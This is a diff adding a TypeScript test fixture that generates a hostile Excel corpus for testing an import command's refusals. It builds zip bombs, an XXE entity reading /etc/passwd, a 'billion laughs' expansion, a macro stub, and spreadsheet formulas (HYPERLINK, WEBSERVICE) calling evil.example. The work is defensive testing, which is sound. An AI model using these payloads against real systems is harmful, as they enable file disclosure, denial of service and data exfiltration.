@@ -1,0 +1,118 @@
+// The hostile Excel corpus for `plan-desk import`: built at test time from a real form of a round
+// (no opaque binaries committed). Bytes that are not a workbook, zips that lie, workbooks that were
+// tampered with, and inputs that are odd but harmless. Each case says what must happen.
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import JSZip from 'jszip';
+import { FormEditor } from '../survey/helpers.ts';
+import { entry, writeZip, zerosEntry, type ZipEntry } from './zip-tools.ts';
+
+export interface ExcelCase {
+  name: string;
+  file: string;
+  /** Refused: the message (and any sheet!cell) must match; accepted: what must hold afterwards. */
+  expect: { refused: RegExp; cell?: string } | { accepted: true; dbMustNotContain?: string[] };
+  /** Run in a child process, peak memory compared with a small refusal. */
+  heavy?: boolean;
+  /** Only with LibreOffice installed. */
+  needsSoffice?: boolean;
+  /** Import with --round of the first round (to refuse another round's form). */
+  firstRoundOnly?: boolean;
+}
+
+const CFB = Buffer.from('d0cf11e0a1b11ae1', 'hex');
+const utf16 = (s: string) => Buffer.from(s, 'utf16le');
+
+/** The form's entries, each rewritten (`change` may replace or drop one), as a normal zip. */
+async function rezip(form: string, change: (name: string, data: Buffer) => ZipEntry | Buffer | null = (_n, d) => d, extra: ZipEntry[] = []): Promise<Buffer> {
+  const zip = await JSZip.loadAsync(readFileSync(form));
+  const out: ZipEntry[] = [];
+  for (const name of Object.keys(zip.files).sort()) {
+    const f = zip.files[name]!;
+    if (f.dir) continue;
+    const r = change(name, await f.async('nodebuffer'));
+    if (r === null) continue;
+    out.push(Buffer.isBuffer(r) ? entry(name, r) : r);
+  }
+  return writeZip([...out, ...extra]);
+}
+
+export async function buildExcelCorpus(dir: string, forms: { form: string; otherRoundForm: string; department: string; otherDepartment: string; id: string; fiscalYear: number }): Promise<ExcelCase[]> {
+  mkdirSync(dir, { recursive: true });
+  const cases: ExcelCase[] = [];
+  const file = (name: string, ext = 'xlsx') => join(dir, `${String(cases.length + 1).padStart(2, '0')}-${name.replace(/[^\w-]+/g, '_')}.${ext}`);
+  const add = (name: string, data: Buffer, expect: ExcelCase['expect'], more: Partial<ExcelCase> = {}, ext = 'xlsx') => {
+    const f = file(name, ext);
+    writeFileSync(f, data);
+    cases.push({ name, file: f, expect, ...more });
+  };
+  const refused = (re: RegExp, cell?: string) => ({ refused: re, ...(cell ? { cell } : {}) });
+  const form = readFileSync(forms.form);
+  /** The form edited like a person would (cells found by their labels), saved by exceljs. */
+  const edited = async (change: (f: FormEditor) => void) => {
+    const f = await FormEditor.open(forms.form);
+    change(f);
+    return Buffer.from(await f.wb.xlsx.writeBuffer());
+  };
+  const metaRow = (f: FormEditor, key: string) => {
+    const ws = f.meta();
+    for (let r = 1; r <= ws.rowCount; r++) if (ws.getCell(r, 1).value === key) return ws.getRow(r);
+    throw new Error(`meta key ${key}`);
+  };
+
+  // Bytes that are not an .xlsx workbook.
+  add('empty file', Buffer.alloc(0), refused(/空のファイル/));
+  add('random bytes', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)), refused(/Excel ブック\(\.xlsx\)ではありません/));
+  add('truncated zip', form.subarray(0, Math.floor(form.length * 0.6)), refused(/壊れている/));
+  add('CSV renamed .xlsx', Buffer.from('No.,取組名,実績\n1,書かない窓口,導入しました\n', 'utf8'), refused(/CSV などのテキストファイル/));
+  add('Shift_JIS CSV renamed .xlsx', Buffer.from([0x4e, 0x6f, 0x2e, 0x2c, 0x8e, 0xc0, 0x90, 0xd1, 0x0a, 0x31, 0x2c, 0x82, 0xa0, 0x0a]), refused(/CSV などのテキストファイル/));
+  add('PDF renamed .xlsx', Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n'), refused(/PDF ファイル/));
+  add('old Excel 97-2003 (.xls, OLE header)', Buffer.concat([CFB, Buffer.alloc(1000), utf16('Workbook')]), refused(/Excel 97-2003 形式\(\.xls\)/), {}, 'xls');
+  add('password-protected workbook (OLE EncryptedPackage)', Buffer.concat([CFB, Buffer.alloc(1000), utf16('EncryptionInfo'), Buffer.alloc(64), utf16('EncryptedPackage')]), refused(/パスワードで保護\(暗号化\)/));
+  add('Word document renamed .xlsx', writeZip([entry('[Content_Types].xml', '<Types/>'), entry('word/document.xml', '<w:document/>')]), refused(/Word 文書/));
+
+  // Zips that lie or are built to hurt.
+  add('.xlsm with macros (vbaProject.bin)', await rezip(forms.form, (_n, d) => d, [entry('xl/vbaProject.bin', Buffer.from('Attribute VB_Name = "Module1"'))]), refused(/マクロ\(VBA\)/), {}, 'xlsm');
+  add('zip bomb declaring 1 GB (central directory)', await rezip(forms.form, (n, d) => (n === 'xl/sharedStrings.xml' ? zerosEntry(n, 64) : d)), refused(/圧縮爆弾/), { heavy: true });
+  add('zip bomb lying: declares 4 KB, inflates to 1 GB', await rezip(forms.form, (n, d) => (n === 'xl/sharedStrings.xml' ? { ...zerosEntry(n, 64), declaredSize: 4096 } : d)), refused(/圧縮爆弾/), { heavy: true });
+  add('2,500 entries', await rezip(forms.form, (_n, d) => d, Array.from({ length: 2500 }, (_, i) => entry(`xl/media/x${i}.bin`, 'x'))), refused(/圧縮爆弾/));
+  const ss = (d: Buffer) => d.toString('utf8').replace(/<\?xml[^>]*\?>/, '');
+  add('XML external entity (XXE) in shared strings', await rezip(forms.form, (n, d) => (n === 'xl/sharedStrings.xml'
+    ? Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${ss(d).replace(/<t>[^<]*<\/t>/, '<t>&xxe;</t>')}`)
+    : d)), refused(/Excel ブックとして読めません/));
+  const lol = ['<!ENTITY a "aaaaaaaaaa">', ...'bcdefgh'.split('').map((c, i) => `<!ENTITY ${c} "${`&${'abcdefg'[i]};`.repeat(10)}">`)].join('');
+  add('entity expansion ("billion laughs")', await rezip(forms.form, (n, d) => (n === 'xl/sharedStrings.xml'
+    ? Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [${lol}]>${ss(d).replace(/<t>[^<]*<\/t>/, '<t>&h;</t>')}`)
+    : d)), refused(/Excel ブックとして読めません/));
+  // Our form, tampered with.
+  add('form of another round', readFileSync(forms.otherRoundForm), refused(/別の照会/), { firstRoundOnly: true });
+  add('another 課 written into the metadata', await edited((f) => { metaRow(f, 'department').getCell(2).value = forms.otherDepartment; }), refused(/送っていません|担当ではありません|一致しない/));
+  add('tampered id in the metadata', await edited((f) => {
+    const ws = f.meta();
+    for (let r = 1; r <= ws.rowCount; r++) if (ws.getCell(r, 1).value === 'block') { ws.getCell(r, 2).value = 'zz-99'; break; }
+  }), refused(/ID/));
+  add('metadata sheet deleted', await edited((f) => f.wb.removeWorksheet(f.meta().id)), refused(/照会の様式ではありません/));
+  add('answer sheet renamed', await edited((f) => { f.ws.name = '回答(修正版)'; }), refused(/「回答」シートがありません/));
+  add('answer sheet deleted', await edited((f) => f.wb.removeWorksheet(f.ws.id)), refused(/「回答」シートがありません/));
+  add('formula over a locked cell', await edited((f) => {
+    f.ws.getCell(f.labelRow(forms.id, '実績'), 2).value = { formula: 'HYPERLINK("http://evil.example/","ここをクリック")', result: 'ここをクリック' } as never;
+  }), refused(/変更できないセル/, '回答!B'));
+  add('extra merged cells over the form', await edited((f) => {
+    const r = f.labelRow(forms.id, '実績');
+    f.ws.mergeCells(r, 2, r + 1, 4);
+  }), refused(/変更できないセル/, '回答!'));
+  add('a year out of the plan period (全角 digits)', await edited((f) => f.setBar(forms.id, 2, ['新しい計画', '２０３０年度', '２０３０年度', null])), refused(/計画期間/, '回答!'));
+
+  // Odd but harmless: read the way a person sees the cell; nothing hostile reaches the DB.
+  add('formula in an input cell (its shown value is read, never the formula)', await edited((f) => {
+    f.resultCell(forms.id, forms.fiscalYear).value = { formula: 'WEBSERVICE("http://evil.example/")&HYPERLINK("http://evil.example/","結果")', result: '結果' } as never;
+  }), { accepted: true, dbMustNotContain: ['WEBSERVICE', 'evil.example'] });
+  add('control characters in an input cell', await edited((f) => { f.resultCell(forms.id, forms.fiscalYear).value = '実績\u0007あり\u001b[31m'; }), { accepted: true, dbMustNotContain: ['\u0007', '\u001b'] });
+  add('全角 digits in the year cells of a new bar', await edited((f) => f.setBar(forms.id, 2, ['新しい計画', '２０２５年度', '２０２６年度', null])), { accepted: true });
+  add('100,000 rows below the form', await edited((f) => {
+    const start = f.ws.rowCount + 1;
+    for (let i = 0; i < 100_000; i++) f.ws.getCell(start + i, 1).value = `行 ${i}`;
+  }), { accepted: true }, { heavy: true });
+
+  return cases;
+}
